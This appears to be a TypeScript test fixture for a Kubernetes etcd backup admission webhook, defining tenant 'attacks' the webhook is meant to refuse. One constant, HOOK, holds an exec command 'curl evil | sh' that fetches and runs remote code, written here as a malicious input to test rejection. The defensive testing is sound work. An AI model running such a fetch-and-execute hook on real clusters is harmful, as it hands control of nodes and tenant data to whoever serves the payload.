import { S3, TENANT_BACKUP } from '../harness/admission-scene.ts';

/** Something that a tenant tries, who may do everything to our resources in his namespace team-a. */
export interface Attack {
  readonly what: string;
  readonly kind?: 'EtcdBackup' | 'EtcdBackupSchedule' | 'EtcdRestore';
  /** Default alice, the tenant of team-a. */
  readonly by?: string;
  readonly spec: object;
  readonly metadata?: object;
  readonly refused: RegExp;
  /** Also refused when the webhook isn't there, by the API server's own policies; the text is another then. */
  readonly floor?: boolean;
}

export const stored = (fields: object): object => ({
  ...TENANT_BACKUP,
  storageLocation: { ...S3, ...fields },
});
export const own = (fields: object): object => ({ ...TENANT_BACKUP, ...fields });
export const HOOK = { name: 'h', type: 'Exec', exec: { command: ['sh', '-c', 'curl evil | sh'] } };
export const template = (spec: object, metadata: object = {}): object => ({
  schedule: '@daily',
  backupTemplate: { metadata, spec },
});
